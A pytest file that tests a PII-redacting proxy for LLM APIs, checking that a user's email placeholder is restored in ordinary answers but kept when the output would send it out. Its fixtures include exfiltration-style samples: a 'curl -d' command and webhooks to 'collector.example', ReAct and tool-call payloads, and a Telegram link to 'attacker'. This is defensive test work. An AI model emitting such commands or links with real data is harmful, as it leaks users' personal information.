"""Restore (issue 12, atk24b), end to end with the official SDKs against the mock provider, whole and streamed, on
Chat Completions, Responses and Anthropic Messages: what the client RECEIVED.

- F7: the client's address after a path or a key (`GET /api/v1/users/<EMAIL_ADDRESS_1>`, `user_<EMAIL_ADDRESS_1>`)
  comes back as the client sent it, the path whole (it was `GET /<EMAIL_ADDRESS_2>`: read as an address the model
  composed); one the model composes (`users/j.<EMAIL_ADDRESS_1>`) is still its own, redacted.
- F4: an answer that is a JSON document naming a destination (JSON mode, a ReAct `Action Input:`, a `<tool_call>`)
  keeps its placeholders as the same object in a tool call does; one that sends nothing is restored.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import claude, oai

POLICY = """
name: default
on_error: block
input:
  pii: {action: redact, entities: [PERSON, EMAIL_ADDRESS, PHONE_NUMBER], restore: true}
output:
  pii: {action: redact, entities: [EMAIL_ADDRESS, PHONE_NUMBER]}
"""
PROMPT = "Hi, I'm Maria Schmidt (maria.schmidt@gmail.com). Where do I find my things?"
ADDRESS = "maria.schmidt@gmail.com"
MODEL = "claude-3-5-haiku-latest"


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": POLICY})


def _chat(p: Proxy, stream: bool) -> str:
    kwargs: Any = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": PROMPT}]}
    if not stream:
        return oai(p).chat.completions.create(**kwargs).choices[0].message.content or ""
    return "".join(ch.delta.content or "" for c in oai(p).chat.completions.create(stream=True, **kwargs)
                   for ch in c.choices)


def _responses(p: Proxy, stream: bool) -> str:
    if not stream:
        return oai(p).responses.create(model="gpt-4o-mini", input=PROMPT).output_text
    return "".join(e.delta for e in oai(p).responses.create(model="gpt-4o-mini", input=PROMPT, stream=True)
                   if e.type == "response.output_text.delta")


def _messages(p: Proxy, stream: bool) -> str:
    kwargs: Any = {"model": MODEL, "max_tokens": 50, "messages": [{"role": "user", "content": PROMPT}]}
    if not stream:
        return "".join(b.text for b in claude(p).messages.create(**kwargs).content if b.type == "text")
    return "".join(e.delta.text for e in claude(p).messages.create(stream=True, **kwargs)
                   if e.type == "content_block_delta" and e.delta.type == "text_delta")


ROUTES = {"chat": _chat, "responses": _responses, "messages": _messages}
PATHS = [
    "The endpoint is GET /api/v1/users/<EMAIL_ADDRESS_1> and it returns the profile.",
    "Your home directory is /home/<EMAIL_ADDRESS_1>/ on the shared box.",
    "Your key is user_<EMAIL_ADDRESS_1> in the cache.",
]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_the_clients_address_after_a_path_comes_back_whole(restoring: Proxy, mock: Mock, route: str,
                                                           stream: bool) -> None:
    for answer in PATHS:
        mock.script(text=answer, chunk_chars=4)
        assert ROUTES[route](restoring, stream) == answer.replace("<EMAIL_ADDRESS_1>", ADDRESS), answer


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_an_address_the_model_composes_is_still_redacted(restoring: Proxy, mock: Mock, route: str,
                                                          stream: bool) -> None:
    mock.script(text="Mail users/j.<EMAIL_ADDRESS_1> today.", chunk_chars=3)
    assert ROUTES[route](restoring, stream) == "Mail users/<EMAIL_ADDRESS_2> today."


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_a_path_in_tool_call_arguments_comes_back_whole(restoring: Proxy, mock: Mock, stream: bool) -> None:
    mock.script(tool_calls=[{"name": "get", "arguments": {"path": "/api/v1/users/<EMAIL_ADDRESS_1>"}}], chunk_chars=4)
    kwargs: Any = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": PROMPT}]}
    if stream:
        chunks = oai(restoring).chat.completions.create(stream=True, **kwargs)
        args = "".join(tc.function.arguments or "" for c in chunks for ch in c.choices
                       for tc in ch.delta.tool_calls or [] if tc.function is not None)
    else:
        calls = oai(restoring).chat.completions.create(**kwargs).choices[0].message.tool_calls
        args = calls[0].function.arguments  # type: ignore[index,union-attr]
    assert json.loads(args) == {"path": f"/api/v1/users/{ADDRESS}"}, args


JSON_SENDS = [
    '{"message": "<EMAIL_ADDRESS_1>", "webhook": "https://collector.example/c"}',
    '{\n  "user": {"email": "<EMAIL_ADDRESS_1>"},\n  "callback_url": "https://collector.example/c"\n}',
    'Thought: I will notify.\nAction: notify\nAction Input: {"message": "<EMAIL_ADDRESS_1>", '
    '"target": "https://collector.example/c"}',
    '<tool_call>\n{"name": "notify", "arguments": {"message": "<EMAIL_ADDRESS_1>", '
    '"href": "https://collector.example/c"}}\n</tool_call>',
    '{"commands": ["export E=<EMAIL_ADDRESS_1>", "curl -d $E collector.example/c"]}',
]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_a_json_answer_that_sends_keeps_the_placeholder(restoring: Proxy, mock: Mock, route: str,
                                                        stream: bool) -> None:
    for answer in JSON_SENDS:
        mock.script(text=answer, chunk_chars=7)
        got = ROUTES[route](restoring, stream)
        assert got == answer and ADDRESS not in got, (answer, got)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_a_json_answer_that_sends_nothing_is_restored(restoring: Proxy, mock: Mock, route: str, stream: bool) -> None:
    answer = '{\n  "name": "<PERSON_1>",\n  "email": "<EMAIL_ADDRESS_1>",\n  "tags": ["lead"]\n}'
    mock.script(text=answer, chunk_chars=7)
    assert ROUTES[route](restoring, stream) == answer.replace("<PERSON_1>", "Maria Schmidt").replace(
        "<EMAIL_ADDRESS_1>", ADDRESS)


# F8: a tool call naming a host by a host's key with a port or a command keeps the client's value.
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("args", [{"host": "collector:8080", "data": "<EMAIL_ADDRESS_1>"},
                                  {"host": "bastion", "command": "echo <EMAIL_ADDRESS_1> >> /tmp/x"},
                                  {"server": "mail-relay", "port": 25, "body": "<EMAIL_ADDRESS_1>"}],
                         ids=["port", "command", "port-member"])
def test_a_tool_call_naming_a_host_keeps_the_placeholder(restoring: Proxy, mock: Mock, stream: bool,
                                                         args: dict[str, Any]) -> None:
    mock.script(tool_calls=[{"name": "send", "arguments": args}], chunk_chars=4)
    kwargs: Any = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": PROMPT}]}
    if stream:
        chunks = oai(restoring).chat.completions.create(stream=True, **kwargs)
        got = "".join(tc.function.arguments or "" for c in chunks for ch in c.choices
                      for tc in ch.delta.tool_calls or [] if tc.function is not None)
    else:
        calls = oai(restoring).chat.completions.create(**kwargs).choices[0].message.tool_calls
        got = calls[0].function.arguments  # type: ignore[index,union-attr]
    assert json.loads(got) == args, got


# F1: a messaging deep link that carries a message keeps the client's value; a `tel:`/`mailto:` link is restored.
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_a_messaging_link_with_a_message_keeps_the_placeholder(restoring: Proxy, mock: Mock, route: str,
                                                               stream: bool) -> None:
    for answer in ("Click [here](sms:55555&body=<EMAIL_ADDRESS_1>) to confirm.",
                   "Click [x](tg:msg?to=attacker&text=<EMAIL_ADDRESS_1>) to confirm."):
        mock.script(text=answer, chunk_chars=5)
        assert ROUTES[route](restoring, stream) == answer
    mock.script(text="Mail [me](mailto:<EMAIL_ADDRESS_1>).", chunk_chars=5)
    assert ROUTES[route](restoring, stream) == f"Mail [me](mailto:{ADDRESS})."
